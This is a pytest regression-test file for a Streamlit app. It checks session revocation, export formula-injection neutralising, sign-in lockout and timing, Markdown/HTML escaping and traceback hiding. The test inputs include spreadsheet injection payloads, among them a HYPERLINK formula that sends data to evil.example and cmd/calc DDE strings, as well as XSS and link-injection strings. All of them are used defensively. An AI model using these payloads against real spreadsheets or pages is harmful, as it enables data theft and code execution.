"""Regression tests for security items S4-S7 of issue 16 and the "no traceback reaches a user" rule.

S4 stale sessions, S5 formula injection in exports, S6 sign-in side channels and lockout abuse,
S7 Markdown injection.  Each test plants the attack and asserts the hand-checkable outcome.
"""
from __future__ import annotations

import csv
import io
import re
import time
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from app_fixtures import ensure_account, fresh_database
from ui import auth

ROOT = Path(__file__).resolve().parents[1]
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def db(monkeypatch, tmp_path):
    monkeypatch.delenv("CHECKPOST_DEMO", raising=False)
    auth.GUARD.reset()
    yield fresh_database(monkeypatch, tmp_path)
    auth.GUARD.reset()


def signed_in(user: dict, page: str = "app.py") -> AppTest:
    at = AppTest.from_file(str(ROOT / page), default_timeout=120)
    at.session_state["user"] = ensure_account(user)
    at.session_state[auth.SIGNED_IN_AT_KEY] = at.session_state[auth.LAST_SEEN_KEY] = time.time()
    from app_fixtures import small_demand, small_network

    # a small network: no background build, and pages that name sites have a graph to read
    at.session_state["app_network"], at.session_state["app_demand"] = small_network(), small_demand()
    return at


def texts(at) -> str:
    kinds = ("markdown", "caption", "title", "info", "warning", "error", "success", "subheader", "exception")
    return "\n".join(str(getattr(e, "value", "")) for kind in kinds for e in getattr(at, kind))


# ------------------------------------------------------------------------------------ S4
def test_deactivated_user_is_signed_out_on_the_next_page_run(db):
    from store.audit import entries
    from ui.accounts import update_user

    at = signed_in({"username": "amina", "role": "planner", "region": None}).run()
    assert "Route map" in [t.value for t in at.title]
    update_user("amina", actor="root", active=False)  # an admin, in another session
    at.run()
    assert "Route map" not in [t.value for t in at.title]
    assert "user" not in at.session_state
    assert "no longer active" in at.session_state["auth_message"]  # shown on the sign-in page
    signed_out = entries(actor="amina", action="sign_out")
    assert "no longer active" in signed_out["detail"].iloc[0]["reason"]


@pytest.mark.parametrize("change, message", [({"role": "donor"}, "(role)"), ({"region": "Sindh"}, "(region)")])
def test_role_or_region_change_ends_the_old_session(db, change, message):
    from ui.accounts import update_user

    commander = {"username": "bilal", "role": "commander", "region": "Balochistan"}
    at = signed_in(commander, "pages/plans.py").run()
    assert "Saved plans" in [t.value for t in at.title]
    update_user("bilal", actor="root", **change)
    at.run()
    assert "Saved plans" not in [t.value for t in at.title]  # the page stopped: no old-role data
    assert any("sign in" in e.value for e in at.error)
    assert "user" not in at.session_state


def test_unchanged_account_keeps_its_session(db):
    at = signed_in({"username": "amina", "role": "planner", "region": None}).run()
    at.run()
    assert "Route map" in [t.value for t in at.title] and at.session_state["user"]["username"] == "amina"


# ------------------------------------------------------------------------------------ S5
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised(payload):
    from geodata.safe_export import safe_cell

    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-12.5", "+3", "-0,5", "42", "-1e-3"])
def test_plain_numbers_stay_numbers(number):
    from geodata.safe_export import safe_cell

    assert safe_cell(number) == number


SAFE_CSV_WRITERS = {"rot", "plan_io"}  # Rotation.to_csv and plan_io.to_csv, both through safe_export


def test_one_neutraliser_serves_every_export():
    from geodata import ingest_export, safe_export

    assert ingest_export.safe_cell is safe_export.safe_cell
    writers = []
    for folder in ("geodata", "routes", "models", "store", "ui", "pages"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "safe_export.py" or path == ROOT / "geodata" / "build.py":  # build: shipped layers
                continue
            text = path.read_text(encoding="utf-8")
            writers += [f"{path.relative_to(ROOT)}: {m.group(0)}" for m in
                        re.finditer(r"(\w+)\.to_csv\(|\.to_excel\(|csv\.writer\(", text)
                        if m.group(1) not in SAFE_CSV_WRITERS]
    assert writers == []  # CSV/XLSX writing goes through geodata.safe_export


def test_csv_and_xlsx_bytes_neutralise_every_text_cell():
    import openpyxl

    from geodata.safe_export import csv_bytes, xlsx_bytes

    frame = pd.DataFrame({"site_id": PAYLOADS, "volume": [1.5, -2.0, 3.0, 4.0, 5.0, 6.0]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[0] == ["site_id", "volume"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0", "6.0"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"sites": frame}))).active
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(PAYLOADS))]
    # (XML stores a carriage return as a line feed: the cell still starts with the apostrophe)
    assert [c.value for c in cells] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert {c.data_type for c in cells} == {"s"}  # stored as text, never as a formula
    assert sheet.cell(row=3, column=2).value == -2.0


def test_plan_csv_neutralises_site_ids_names_and_authors():
    import geopandas as gpd

    from store.plans import StoredPlan
    from ui import plan_io

    sites = gpd.GeoDataFrame({"site_id": [PAYLOADS[0]], "node": pd.array([3], dtype="Int64"), "edge": [None],
                              "detection": [0.5], "capacity": [None], "lon": [66.5], "lat": [29.7]},
                             geometry=gpd.points_from_xy([66.5], [29.7]), crs="EPSG:4326")
    stored = StoredPlan("@plan", 1, "=evil()", None, None, sites)
    row = next(csv.DictReader(io.StringIO(plan_io.to_csv(stored))))
    assert row["site_id"] == "'" + PAYLOADS[0]
    assert row["plan"] == "'@plan" and row["author"] == "'=evil()"
    assert row["lon"] == "66.5"


def test_store_query_out_csv_and_xlsx_neutralise_the_source(db, tmp_path, capsys):
    import geopandas as gpd
    import openpyxl

    from store.__main__ import main
    from store.records import import_records

    frame = gpd.GeoDataFrame({
        "id": ["R-1"], "date": pd.to_datetime(["2025-03-01"]), "date_from": pd.to_datetime([None]),
        "date_to": pd.to_datetime([None]), "persons": [3], "case_type": ["smuggling"], "mode": ["land"],
        "agency": ["FIA"], "place_name": ["@Karachi"], "nationality": ["x"], "notes": ["+note"],
        "synthetic": [False], "source": [PAYLOADS[1]],
    }, geometry=gpd.points_from_xy([67.01], [24.86]), crs="EPSG:4326")
    import_records(frame, "attack.csv", "amina")
    out = tmp_path / "q.csv"
    assert main(["query", "--out", str(out)]) == 0
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["source"] == "'" + PAYLOADS[1] and row["place_name"] == "'@Karachi" and row["notes"] == "'+note"
    book = tmp_path / "q.xlsx"
    assert main(["query", "--out", str(book)]) == 0
    sheet = openpyxl.load_workbook(book).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("source") + 1)
    assert cell.value == "'" + PAYLOADS[1] and cell.data_type == "s"


def test_streamlit_built_in_export_is_off_and_errors_show_no_details():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
    assert config["client"]["showErrorDetails"] == "none"


def test_audit_log_offers_checkpost_export_instead(db):
    at = signed_in({"username": "root", "role": "admin", "region": None}).run()
    assert not at.exception
    assert "admin_audit_csv" in str(at.get("download_button"))


# ------------------------------------------------------------------------------------ S6
def _count_bcrypt(monkeypatch) -> list:
    import bcrypt

    calls = []
    real = bcrypt.checkpw

    def counting(password, hashed):
        calls.append(hashed)
        return real(password, hashed)

    monkeypatch.setattr(bcrypt, "checkpw", counting)
    return calls


def test_unknown_inactive_and_real_users_each_cost_one_bcrypt_check(db, monkeypatch):
    from store.users import create_user, verify_password
    from ui.accounts import update_user

    create_user("amina", "correct horse battery", role="planner")
    create_user("gone", "correct horse battery", role="planner")
    update_user("gone", actor="root", active=False)
    calls = _count_bcrypt(monkeypatch)
    assert verify_password("nobody", "correct horse battery") is None
    assert verify_password("gone", "correct horse battery") is None
    assert verify_password("amina", "wrong") is None
    assert verify_password("amina", "") is None
    assert verify_password("amina", "x" * 100) is None  # over bcrypt's 72 bytes: refused, never raises
    assert verify_password("amina", "correct horse battery")["username"] == "amina"
    assert len(calls) == 6
    assert len({h[:7] for h in calls}) == 1  # same algorithm and cost: the dummy hash costs as much


def _fast_passwords(monkeypatch, good=("amina", "right password")):
    import store.users

    monkeypatch.setattr(store.users, "verify_password",
                        lambda u, p: {"username": u, "role": "planner", "region": None} if (u, p) == good else None)


def _fail_five_times(name: str, **where) -> None:
    """Five wrong passwords for ``name`` (enough to lock it), whether or not the lock already bites."""
    for _ in range(5):
        try:
            auth.check_credentials(name, "guess", **where)
        except auth.SignInLocked:
            pass


def test_an_attacker_locks_only_their_own_computer_out(db, monkeypatch):
    _fast_passwords(monkeypatch)
    for _ in range(4):
        assert auth.check_credentials("amina", "guess", client="10.0.0.66") is None
    with pytest.raises(auth.SignInLocked, match="from this computer"):
        auth.check_credentials("amina", "guess", client="10.0.0.66")
    with pytest.raises(auth.SignInLocked):
        auth.check_credentials("amina", "right password", client="10.0.0.66")
    assert auth.check_credentials("amina", "right password", client="10.0.0.5")["username"] == "amina"


def test_one_computer_spraying_many_names_is_throttled(db, monkeypatch):
    _fast_passwords(monkeypatch)
    for number in range(19):
        assert auth.check_credentials(f"user{number}", "guess", client="10.0.0.66") is None
    with pytest.raises(auth.SignInLocked, match="this computer"):
        auth.check_credentials("user19", "guess", client="10.0.0.66")
    with pytest.raises(auth.SignInLocked, match="this computer"):
        auth.check_credentials("amina", "right password", client="10.0.0.66")
    assert auth.check_credentials("amina", "right password", client="10.0.0.5") is not None


def test_guessing_spread_over_many_computers_locks_the_name(db, monkeypatch):
    _fast_passwords(monkeypatch)
    for number in range(49):
        assert auth.check_credentials("amina", "guess", client=f"10.1.0.{number}") is None
    with pytest.raises(auth.SignInLocked, match="user name;"):
        auth.check_credentials("amina", "guess", client="10.1.0.49")
    with pytest.raises(auth.SignInLocked):
        auth.check_credentials("amina", "right password", client="10.9.9.9")


def test_every_attempt_is_audited_including_during_lockout(db, monkeypatch):
    from store.audit import entries

    _fast_passwords(monkeypatch)
    for _ in range(30):
        try:
            auth.check_credentials("admin", "guess", client="10.0.0.66")
        except auth.SignInLocked:
            pass
    actions = entries(actor="admin")["action"].value_counts().to_dict()
    assert actions == {"sign_in_failed": 5, "sign_in_refused": 25}
    assert entries(actor="admin")["detail"].iloc[0]["client"] == "10.0.0.66"


def test_admin_unlock_works_across_app_processes(db, monkeypatch):
    from store.audit import entries

    _fast_passwords(monkeypatch)
    other_process = auth.SignInGuard()  # another app process has its own counters
    _fail_five_times("amina", client="10.0.0.5", guard=other_process)
    with pytest.raises(auth.SignInLocked):
        auth.check_credentials("amina", "right password", client="10.0.0.5", guard=other_process)
    auth.unlock("Amina", actor="root")  # this process (the admin's), written to the audit log
    user = auth.check_credentials("amina", "right password", client="10.0.0.5", guard=other_process)
    assert user["username"] == "amina"
    assert entries(action="unlock_user")["detail"].iloc[0]["username"] == "amina"


def test_unlock_from_the_command_line(db, monkeypatch, capsys):
    from store.audit import entries
    from ui.accounts import main

    _fast_passwords(monkeypatch)
    _fail_five_times("amina")
    assert "amina" in auth.GUARD.locked_names()
    assert main(["unlock", "amina"]) == 0
    assert "unlocked" in capsys.readouterr().out
    assert auth.check_credentials("amina", "right password")["username"] == "amina"
    assert entries(action="unlock_user")["actor"].iloc[0].startswith("cli:")


def test_admin_page_lists_locks_and_unlocks(db, monkeypatch):
    from store.audit import entries

    _fast_passwords(monkeypatch)
    _fail_five_times("bilal")
    at = signed_in({"username": "root", "role": "admin", "region": None}).run()
    locked = next(t.value for t in at.dataframe if "user name" in t.value.columns)
    assert locked["user name"].tolist() == ["bilal"]
    field = next(t for t in at.text_input if t.label.startswith("Unlock sign-in"))
    field.input("bilal")
    next(b for b in at.button if b.label == "Unlock").click().run()
    assert any("Unlocked bilal" in s.value for s in at.success)
    assert entries(action="unlock_user")["actor"].iloc[0] == "root"
    assert "bilal" not in auth.GUARD.locked_names()


# ------------------------------------------------------------------------------------ S7
@pytest.mark.parametrize("text, shown", [
    ("[click](http://evil.example)", r"\[click\](http\://evil.example)"),
    ("![x](http://evil.example/p.png)", r"\!\[x\](http\://evil.example/p.png)"),
    ("**URGENT** _now_", r"\*\*URGENT\*\* \_now\_"),
    ("# Heading", r"\# Heading"),
    ("1. first", r"1\. first"),
    ("- item", r"\- item"),
    ("<img src=x onerror=alert(1)>", r"\<img src=x onerror=alert(1)\>"),
    (":red[alarm] :material/warning:", r"\:red\[alarm\] \:material/warning\:"),
    ("www.evil.example a@b.pk", r"www\.evil.example a\@b.pk"),
    ("line one\nline two", "line one line two"),
    ("Makran coast v2", "Makran coast v2"),
    ("N-40 near Taftan", "N-40 near Taftan"),
])
def test_markdown_escape_shows_text_as_text(text, shown):
    from ui.safe_text import md

    assert md(text) == shown


def test_html_escape():
    from ui.safe_text import html_text

    assert html_text('<img src=x onerror="top.__xss=1">') == "&lt;img src=x onerror=&quot;top.__xss=1&quot;&gt;"


def test_plan_note_author_and_name_render_as_text(db):
    from store.plans import save_plan

    name = "**Plan** [x](http://evil.example)"
    save_plan(name, [{"site_id": "s1", "node": 1, "detection": 0.5}], author="amina",
              note="[click me](http://evil.example) **now**")
    at = signed_in({"username": "amina", "role": "planner", "region": None}, "pages/plans.py").run()
    assert not at.exception
    caption = next(c.value for c in at.caption if c.value.startswith("Version 1"))
    assert r"\[click me\](http\://evil.example) \*\*now\*\*" in caption
    assert "](http" not in caption.replace(r"\](http", "")  # no live link syntax left


def test_user_name_in_the_sidebar_renders_as_text(db):
    at = signed_in({"username": "[admin](http://evil.example)", "role": "planner", "region": None}).run()
    box = next(c.value for c in at.sidebar.caption if c.value.startswith("Signed in as"))
    assert r"\[admin\](http\://evil.example)" in box


def test_file_name_in_the_import_report_renders_as_text(db, monkeypatch):
    at = AppTest.from_file(str(ROOT / "pages" / "data.py"), default_timeout=60)
    at.session_state["data_page_upload"] = ("**urgent** [x](http://evil.example).csv",
                                            b"id,date,latitude,longitude,persons,case_type,mode\n"
                                            b"A,2011-03-14,24.86,67.00,2,smuggling,sea\n")
    at.session_state["user"] = ensure_account({"username": "amina", "role": "planner", "region": None})
    at.run()
    assert not at.exception
    heading = next(s.value for s in at.subheader if s.value.startswith("Validation report"))
    assert heading == r"Validation report: \*\*urgent\*\* \[x\](http\://evil.example).csv"


# ------------------------------------------------------------------------------------ no tracebacks
def test_a_failing_page_shows_a_plain_message_and_logs_the_incident(db, monkeypatch):
    import store.records
    from store.audit import entries

    def broken(*_args, **_kwargs):
        raise RuntimeError("SECRET-INTERNAL-DETAIL in /srv/checkpost/store/records.py line 42")

    monkeypatch.setattr(store.records, "list_batches", broken)
    at = signed_in({"username": "amina", "role": "planner", "region": None}).run()
    assert not at.exception
    shown = texts(at)
    assert "SECRET-INTERNAL-DETAIL" not in shown and "Traceback" not in shown and "RuntimeError" not in shown
    message = next(e.value for e in at.error if "Something went wrong" in e.value)
    incident = re.search(r"incident ([0-9a-f]{8})", message).group(1)
    assert entries(actor="amina", action="page_error")["detail"].iloc[0]["incident"] == incident
